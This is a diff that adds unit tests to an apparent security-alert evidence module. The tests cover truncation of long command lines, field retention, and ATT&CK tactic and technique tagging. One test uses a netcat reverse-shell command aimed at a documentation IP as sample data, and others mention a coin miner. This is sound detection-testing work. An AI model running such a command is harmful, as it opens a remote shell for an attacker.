@@ -52,6 +52,55 @@ describe('evidenceOf', () => {
     assert.equal(evidence({ rule: { level: 'informational' }, during: 'dpkg' }).severity, 'informational');
   });
 
+  it('takes at most 4 KB of JSON for all strings, shortens the longest first, and marks them', () => {
+    const hostile = '\x01'.repeat(2_000);
+    const { subject, details, ...others } = evidence({
+      payload: { CommandLine: hostile, Executable: '/usr/bin/true', UserName: 'eve', CurrentDirectory: '/home/eve' },
+      fields: { CommandLine: hostile, ParentCommandLine: `sh ${hostile}`, ParentImage: '/bin/sh' },
+      view: { Image: '/bin/x', CommandLine: `x ${hostile}` },
+    });
+    const encoded = Buffer.byteLength(JSON.stringify({ subject, details, ...others }));
+    assert.ok(encoded <= 4_096 + 400, `${encoded} with names`);
+    assert.deepEqual(
+      [subject.Executable, subject.UserName, subject.CurrentDirectory, others.parentExecutable, others.ruleTitle],
+      ['/usr/bin/true', 'eve', '/home/eve', '/bin/sh', 'Coin miner started'],
+    );
+    assert.equal(details.ShortenedField, 'CommandLine;ParentCommandLine;MatchedCommandLine');
+    assert.equal(details.OriginalBytes, '2000;2003;2002');
+    assert.match(String(subject.CommandLine), /^.{100,2000}$/s);
+  });
+
+  it('keeps what identifies an alert among any number of long strings', () => {
+    const many = Object.fromEntries(Array.from({ length: 60 }, (_, n) => [`F${n}`, '"'.repeat(500)]));
+    const { subject } = evidence({ payload: { ExtraDetails: many, UserId: '7', RemoteAddress: '192.0.2.1' } });
+    assert.deepEqual([subject.UserId, subject.RemoteAddress, subject.Executable], ['7', '192.0.2.1', '/tmp/xmrig']);
+  });
+
+  it('repeats no line that the command line shows already', () => {
+    const line = `sh -c 'nc -e /bin/sh 192.0.2.1 1'`;
+    const view = { Image: '/bin/nc', CommandLine: 'nc -e /bin/sh 192.0.2.1 1' };
+    const matched = (CommandLine: string) => evidence({ fields: { CommandLine }, view }).details.MatchedCommandLine;
+    assert.deepEqual(
+      [matched(line), matched('x'), matched(`${'y'.repeat(2_000)}; ${line}`)],
+      [undefined, view.CommandLine, view.CommandLine],
+    );
+  });
+
+  it('names the selection, its techniques, and its tactics or those of the rule', () => {
+    const rule = {
+      tags: ['attack.persistence', 'attack.t1098.004'],
+      selectionTags: { cron: ['attack.t1053.003'], sudoers: ['attack.privilege-escalation', 'attack.t1548.003'] },
+    };
+    const of = (...selections: string[]) => {
+      const { selection, tactics, techniques } = evidence({ rule, selections });
+      return [selection, tactics.join(), techniques.join()];
+    };
+    assert.deepEqual(of('cron'), ['cron', 'persistence', 'T1053.003']);
+    assert.deepEqual(of('sudoers', 'other'), ['sudoers;other', 'privilege-escalation', 'T1548.003']);
+    assert.deepEqual(of('other'), ['other', 'persistence', 'T1098.004']);
+    assert.deepEqual(of(), [undefined, 'persistence', 'T1098.004']);
+  });
+
   it('says what to do also for a rule that does not', () => {
     const { remediation: _, ...rule } = hit().rule;
     assert.match(evidenceOf({ ...hit(), rule }, 'T', { redact: true }).remediation, /./);
